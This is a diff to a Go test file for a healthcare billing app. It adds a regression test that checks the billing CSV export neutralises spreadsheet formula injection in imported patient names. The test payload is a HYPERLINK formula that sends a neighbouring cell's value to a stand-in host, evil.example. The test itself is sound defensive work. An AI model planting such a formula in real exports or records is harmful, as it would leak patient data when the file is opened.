@@ -1,13 +1,19 @@
 package main
 
 import (
+	"encoding/csv"
 	"encoding/json"
 	"fmt"
+	"os"
+	"path/filepath"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 
 	"carepath"
+	"carepath/fhirimport"
 )
 
 func TestProgramsAPI(t *testing.T) {
@@ -111,5 +117,29 @@ func TestProgramsAPI(t *testing.T) {
 	page, resp := cmWeb.get(base + "/patients/" + patient.ID + "/programs")
 	if resp.StatusCode != 200 || !strings.Contains(page, "99490") || !strings.Contains(page, "chronic condition") {
 		t.Errorf("programs page: %d", resp.StatusCode)
+	}
+
+	// The security review's probe: a source names the patient with a
+	// spreadsheet formula; the month's CSV carries it as text.
+	formula := `=HYPERLINK("http://evil.example/?leak="&A2,"Bailey")`
+	path := filepath.Join(t.TempDir(), "rename.json")
+	os.WriteFile(path, []byte(`{"resourceType":"Patient","id":"`+patient.ID+`","name":[{"family":`+strconv.Quote(formula)+`,"given":["@SUM(1)"]}]}`), 0o644)
+	if rep, err := fhirimport.Import(sys, m.DB, org.ID, []string{path}, fhirimport.Options{}); err != nil || len(rep.Failures) > 0 {
+		t.Fatalf("import: %v %+v", err, rep)
+	}
+	csvBody, resp := signIn(t, base, "physician@demo.carepath.example", DemoPassword).get(base + "/billing/" + month + "/export.csv")
+	rows, err := csv.NewReader(strings.NewReader(csvBody)).ReadAll()
+	if resp.StatusCode != 200 || err != nil || len(rows) != 3 {
+		t.Fatalf("CSV: %d %v\n%s", resp.StatusCode, err, csvBody)
+	}
+	for _, row := range rows[1:] {
+		for _, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(strings.TrimLeft(cell, " ")[0])) {
+				t.Errorf("CSV cell %q would run in a spreadsheet", cell)
+			}
+		}
+		if !slices.Contains(row, "'"+formula+", @SUM(1)") {
+			t.Errorf("CSV row lacks the patient's name as text: %q", row)
+		}
 	}
 }
